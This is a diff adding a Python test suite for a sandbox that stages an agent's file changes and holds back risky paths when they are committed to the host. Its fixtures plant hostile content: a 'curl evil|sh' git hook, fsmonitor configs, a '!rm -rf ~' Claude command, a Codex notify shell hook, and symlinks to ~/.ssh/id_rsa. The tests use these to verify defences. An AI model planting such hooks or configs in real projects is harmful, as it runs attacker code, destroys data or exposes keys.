@@ -1,0 +1,224 @@
+#!/usr/bin/python3
+"""What a commit takes (issue 16, §2 §3 §12 §13), through real runs: protection follows what
+tools execute (git directories at any depth, protect rules at any depth), symlinks are judged
+by where they resolve and paths by every name that reaches them, and a command without a
+session id never acts on the wrong session. Every case checks the host's side."""
+
+import os
+import subprocess
+import sys
+import unittest
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "conformance"))
+import abtest  # noqa: E402
+from abtest import AGENTBOX, BoxTest  # noqa: E402
+
+
+class CommitRules(BoxTest):
+    def setUp(self):
+        super().setUp()
+        p = self.box.project
+        os.makedirs(os.path.join(p, ".git", "hooks"))
+        with open(os.path.join(p, ".git", "config"), "w") as f:
+            f.write("[core]\n")
+
+    def ab(self, *args, check=None):
+        p = subprocess.run([AGENTBOX] + list(args), capture_output=True, env=self.box.env(),
+                           cwd=self.box.project, timeout=120)
+        res = abtest.Result(args, p.returncode, p.stdout.decode(errors="replace"),
+                            p.stderr.decode(errors="replace"), 0)
+        if check is not None:
+            self.assertEqual(res.rc, check, res)
+        return res
+
+    def staged(self, script):
+        res = self.box.run(["sh", "-c", script])
+        self.assertRc(res, 0)
+        return res
+
+    def at(self, rel):
+        return os.path.join(self.box.project, rel)
+
+    def assert_held(self, res, *rels):
+        self.assertEqual(res.rc, 1, res)
+        for rel in rels:
+            self.assertFalse(os.path.lexists(self.at(rel)), "%s was committed\n%s" % (rel, res))
+            self.assertIn("held back " + '"%s"' % rel, res.err)
+
+    # ---- §2: protection follows what tools execute
+
+    def test_nested_repo_hook_is_held_back(self):
+        self.staged("mkdir -p sub/.git/hooks && echo 'curl evil|sh' > sub/.git/hooks/post-checkout"
+                    " && chmod +x sub/.git/hooks/post-checkout"
+                    " && printf '[core]\\n\\tfsmonitor = evil\\n' > sub/.git/config"
+                    " && echo ok > ok.txt")
+        res = self.ab("commit")
+        self.assert_held(res, "sub/.git/hooks/post-checkout", "sub/.git/config")
+        self.assertTrue(os.path.exists(self.at("ok.txt")))
+        # Named with --force, it is an explicit approval.
+        self.ab("commit", "--force", "sub/.git/hooks/post-checkout", "sub/.git/config", check=0)
+        self.assertTrue(os.path.exists(self.at("sub/.git/hooks/post-checkout")))
+
+    def test_git_commondir_is_held_back(self):
+        self.staged("mkdir -p common/hooks && echo ../common > .git/commondir"
+                    " && printf '[core]\\n\\tfsmonitor = evil\\n' > common/config")
+        res = self.ab("commit")
+        # commondir redirects git's config and hooks; and with it in the change set, common/ is
+        # a git directory whose config needs approval too.
+        self.assert_held(res, ".git/commondir", "common/config")
+
+    def test_config_in_dir_named_by_existing_commondir_is_held_back(self):
+        with open(self.at(".git/commondir"), "w") as f:
+            f.write("../common\n")
+        os.makedirs(self.at("common"))
+        self.staged("printf '[core]\\n\\tfsmonitor = evil\\n' > common/config; echo r > common/refs")
+        res = self.ab("commit")
+        self.assert_held(res, "common/config")
+        self.assertTrue(os.path.exists(self.at("common/refs")))  # what git writes there goes
+
+    def test_config_in_dir_named_by_dot_git_file_is_held_back(self):
+        os.makedirs(self.at("sub"))
+        os.makedirs(self.at("gd"))
+        with open(self.at("sub/.git"), "w") as f:
+            f.write("gitdir: ../gd\n")
+        self.staged("mkdir -p gd/hooks && echo evil > gd/hooks/pre-commit"
+                    " && echo evil > gd/config && echo 0 > gd/HEAD")
+        res = self.ab("commit")
+        self.assert_held(res, "gd/hooks/pre-commit", "gd/config")
+        self.assertTrue(os.path.exists(self.at("gd/HEAD")))
+
+    def test_dot_git_file_redirecting_git_is_held_back(self):
+        self.staged("mkdir -p sub && echo 'gitdir: ../evil' > sub/.git")
+        self.assert_held(self.ab("commit"), "sub/.git")
+
+    def test_git_objects_info_alternates_is_held_back(self):
+        self.staged("mkdir -p .git/objects/info .git/objects/ab"
+                    " && echo /elsewhere/objects > .git/objects/info/alternates"
+                    " && echo obj > .git/objects/ab/cdef0123")
+        res = self.ab("commit")
+        self.assert_held(res, ".git/objects/info/alternates")
+        self.assertTrue(os.path.exists(self.at(".git/objects/ab/cdef0123")))
+
+    def test_what_git_writes_in_ordinary_work_commits_without_approval(self):
+        # A real repository, a real commit inside the sandbox: objects, refs, logs, the index,
+        # COMMIT_EDITMSG all go without a question.
+        p = self.box.project
+        subprocess.run(["rm", "-rf", self.at(".git")], check=True)
+        git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "safe.directory=*"]
+        subprocess.run(["git", "init", "-q", p], check=True, env=self.box.env())
+        subprocess.run(git + ["-C", p, "add", "-A"], check=True, env=self.box.env())
+        subprocess.run(git + ["-C", p, "commit", "-qm", "one"], check=True, env=self.box.env())
+        before = subprocess.run(["git", "-C", p, "-c", "safe.directory=*", "rev-parse", "HEAD"],
+                                capture_output=True, check=True).stdout
+        self.staged("echo two >> README && git -c user.name=t -c user.email=t@t"
+                    " -c safe.directory='*' commit -qam two")
+        res = self.ab("commit", check=0)
+        self.assertNotIn("held back", res.err)
+        after = subprocess.run(["git", "-C", p, "-c", "safe.directory=*", "log", "--oneline"],
+                               capture_output=True, check=True).stdout.decode()
+        self.assertIn("two", after)
+        self.assertNotEqual(before, after)
+
+    def test_nested_claude_commands_are_protected(self):
+        self.staged("mkdir -p pkg/.claude/commands && echo '!rm -rf ~' > pkg/.claude/commands/x.md")
+        self.assert_held(self.ab("commit"), "pkg/.claude/commands/x.md")
+
+    def test_nested_repo_ci_workflow_is_held_back_but_not_a_package_copy(self):
+        os.makedirs(self.at("sub/.git"))
+        self.staged("mkdir -p sub/.github/workflows node_modules/pkg/.github/workflows"
+                    " && echo 'run: evil' > sub/.github/workflows/ci.yml"
+                    " && echo 'run: x' > node_modules/pkg/.github/workflows/ci.yml")
+        res = self.ab("commit")
+        self.assert_held(res, "sub/.github/workflows/ci.yml")
+        self.assertNotIn("held back \"node_modules", res.err)
+        # Nothing runs a workflow inside a package's tarball: asking for it every `npm
+        # install` would only train people to approve without reading.
+        self.assertTrue(os.path.exists(self.at("node_modules/pkg/.github/workflows/ci.yml")))
+
+    def test_package_manager_and_tool_configs_are_protected(self):
+        self.staged("mkdir -p .cargo .yarn/releases lib"
+                    " && echo '[build]' > .cargo/config.toml && echo x > .pnpmfile.cjs"
+                    " && echo 'yarnPath: .yarn/releases/y.cjs' > .yarnrc.yml"
+                    " && echo x > .yarn/releases/y.cjs && echo x > lib/.npmrc")
+        self.assert_held(self.ab("commit"), ".cargo/config.toml", ".pnpmfile.cjs", ".yarnrc.yml",
+                         ".yarn/releases/y.cjs", "lib/.npmrc")
+
+    # ---- §3: symlinks judged by where they resolve, paths by every name
+
+    def test_symlink_through_project_link_to_ssh_is_held_back(self):
+        os.symlink(os.path.join(self.box.home, ".ssh"), self.at("ssh-link"))
+        self.staged("ln -s ssh-link/id_rsa key2; ln -s ssh-link/.. homelink;"
+                    " ln -s ssh-link/../.ssh/id_rsa key3; ln -s README inside")
+        res = self.ab("commit")
+        self.assert_held(res, "key2", "homelink", "key3")
+        self.assertTrue(os.path.islink(self.at("inside")))
+
+    def test_symlink_through_staged_link_to_ssh_is_held_back(self):
+        self.staged("mkdir d && ln -s %s/.ssh d/s && ln -s d/s/id_rsa key && ln -s d/s/.. up"
+                    % self.box.home)
+        res = self.ab("commit")
+        self.assert_held(res, "d/s", "key", "up")
+        # Approving the first link does not approve what leads through it.
+        self.ab("commit", "--force", "d/s", check=0)
+        self.assert_held(self.ab("commit"), "key", "up")
+
+    def test_symlink_climbing_out_through_a_project_link_is_held_back(self):
+        # Lexically "top/.." is the project itself; the kernel goes up from where `top` leads
+        # (the project root), and so out of it.
+        os.symlink(".", self.at("top"))
+        self.staged("ln -s top/.. out; ln -s top/README fine")
+        self.assert_held(self.ab("commit"), "out")
+        self.assertTrue(os.path.islink(self.at("fine")))
+
+    def test_write_through_aliased_codex_dir_is_protected(self):
+        os.makedirs(self.at("decoy-codex"))
+        os.symlink("decoy-codex", self.at(".codex"))
+        self.staged("echo 'notify = [\"sh\", \"-c\", \"evil\"]' > .codex/config.toml")
+        self.assert_held(self.ab("commit"), "decoy-codex/config.toml")
+
+    def test_write_through_aliased_claude_dir_is_protected(self):
+        os.makedirs(self.at("dotfiles/claude"))
+        os.symlink("dotfiles/claude", self.at(".claude"))
+        self.staged("echo '{\"hooks\":{}}' > .claude/settings.json; echo x > dotfiles/notes")
+        res = self.ab("commit")
+        self.assert_held(res, "dotfiles/claude/settings.json")
+        self.assertTrue(os.path.exists(self.at("dotfiles/notes")))
+
+    def test_alias_made_in_the_same_change_set_is_protected(self):
+        self.staged("mkdir -p hooks-here && ln -s hooks-here .husky && echo evil > hooks-here/pre-commit")
+        self.assert_held(self.ab("commit"), ".husky", "hooks-here/pre-commit")
+        # The directory would land empty: it waits with its entry.
+        self.assertFalse(os.path.exists(self.at("hooks-here")))
+
+    # ---- §12: which session is unambiguous
+
+    def test_run_that_stages_nothing_is_never_picked(self):
+        self.staged("echo a > a.txt")
+        self.staged("true")
+        self.assertIn("a.txt", self.ab("diff", "--name-status", check=0).out)
+        self.ab("commit", check=0)
+        self.assertTrue(os.path.exists(self.at("a.txt")))
+
+    def test_bare_commit_with_two_staged_sessions_is_ambiguous(self):
+        self.staged("echo a > a.txt")
+        self.staged("echo b > b.txt")
+        ids = [os.path.basename(s) for s in self.box.sessions()]
+        self.assertEqual(len(ids), 2)
+        for cmd in (["commit"], ["diff"], ["discard"], ["undo"]):
+            res = self.ab(*cmd)
+            self.assertEqual(res.rc, 2, res)
+            self.assertIn("more than one session", res.err)
+            for i in ids:
+                self.assertIn(i, res.err)
+        self.assertFalse(os.path.exists(self.at("a.txt")))
+        self.assertFalse(os.path.exists(self.at("b.txt")))
+        # Named, each one works.
+        self.ab("commit", ids[1], check=0)
+        self.assertTrue(os.path.exists(self.at("b.txt")))
+        # One left with staged changes: it is the one meant.
+        self.ab("commit", check=0)
+        self.assertTrue(os.path.exists(self.at("a.txt")))
+
+
+if __name__ == "__main__":
+    abtest.main()
